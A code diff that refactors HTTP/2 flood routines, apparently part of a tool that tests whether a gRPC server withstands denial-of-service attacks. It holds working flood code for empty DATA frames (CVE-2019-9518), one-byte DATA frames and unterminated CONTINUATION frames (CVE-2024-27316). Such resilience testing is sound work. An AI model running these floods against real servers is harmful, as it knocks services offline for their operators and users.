@@ -15,6 +15,7 @@ import struct
 import threading
 import time
 from collections import Counter
+from collections.abc import Callable
 
 import grpc
 import numpy as np
@@ -254,15 +255,17 @@ def settings_flood(t: Target) -> str:
     return _flood(t, frame(SETTINGS, 0, 0))
 
 
-def empty_frames_flood(t: Target) -> str:
-    """Empty DATA frames on an open stream, that never end it (CVE-2019-9518)."""
+def _stream_flood(t: Target, end_headers: bool, chunk: Callable[[int], bytes]) -> str:
+    """Open a stream (its header block ended or not), then write ``chunk(stream)`` as fast
+    as the socket takes it until the server sends GOAWAY or closes (10 s at most)."""
     c = RawH2(t, ack=True)
     sid = c.stream()
-    c.send(frame(HEADERS, END_HEADERS, sid, c.head()))
+    c.send(frame(HEADERS, END_HEADERS if end_headers else 0, sid, c.head()))
+    data = chunk(sid)
     end = time.monotonic() + 10
     try:
         while time.monotonic() < end and c.goaway is None and not c.closed:
-            if not c.send(frame(DATA, 0, sid) * 500):
+            if not c.send(data):
                 break
             c.read()
         while c.goaway is None and not c.closed and time.monotonic() < end + 5:
@@ -270,45 +273,25 @@ def empty_frames_flood(t: Target) -> str:
         return c.ended()
     finally:
         c.close()
+
+
+def empty_frames_flood(t: Target) -> str:
+    """Empty DATA frames on an open stream, that never end it (CVE-2019-9518)."""
+    return _stream_flood(t, True, lambda sid: frame(DATA, 0, sid) * 500)
 
 
 def tiny_frames_flood(t: Target) -> str:
     """One-byte DATA frames on an open stream: each costs a frame's parsing and nothing
     else (a flood of tiny frames holds the event loop as empty ones do)."""
-    c = RawH2(t, ack=True)
-    sid = c.stream()
-    c.send(frame(HEADERS, END_HEADERS, sid, c.head()))
-    end = time.monotonic() + 10
-    try:
-        while time.monotonic() < end and c.goaway is None and not c.closed:
-            if not c.send(frame(DATA, 0, sid, b"\x00") * 2000):
-                break
-            c.read()
-        while c.goaway is None and not c.closed and time.monotonic() < end + 5:
-            c.read(0.2)
-        return c.ended()
-    finally:
-        c.close()
+    return _stream_flood(t, True, lambda sid: frame(DATA, 0, sid, b"\x00") * 2000)
 
 
 def continuation_flood(t: Target) -> str:
     """A header block that never ends: CONTINUATION frames of 16 KB, without END_HEADERS
     (CVE-2024-27316)."""
-    c = RawH2(t, ack=True)
-    sid = c.stream()
-    c.send(frame(HEADERS, 0, sid, c.head()))
-    chunk = frame(CONTINUATION, 0, sid, literal(b"x-pad", b"a" * 16000))
-    end = time.monotonic() + 10
-    try:
-        while time.monotonic() < end and c.goaway is None and not c.closed:
-            if not c.send(chunk * 16):
-                break
-            c.read()
-        while c.goaway is None and not c.closed and time.monotonic() < end + 5:
-            c.read(0.2)
-        return c.ended()
-    finally:
-        c.close()
+    return _stream_flood(
+        t, False, lambda sid: frame(CONTINUATION, 0, sid, literal(b"x-pad", b"a" * 16000)) * 16
+    )
 
 
 def metadata_flood_unacked(t: Target) -> str:
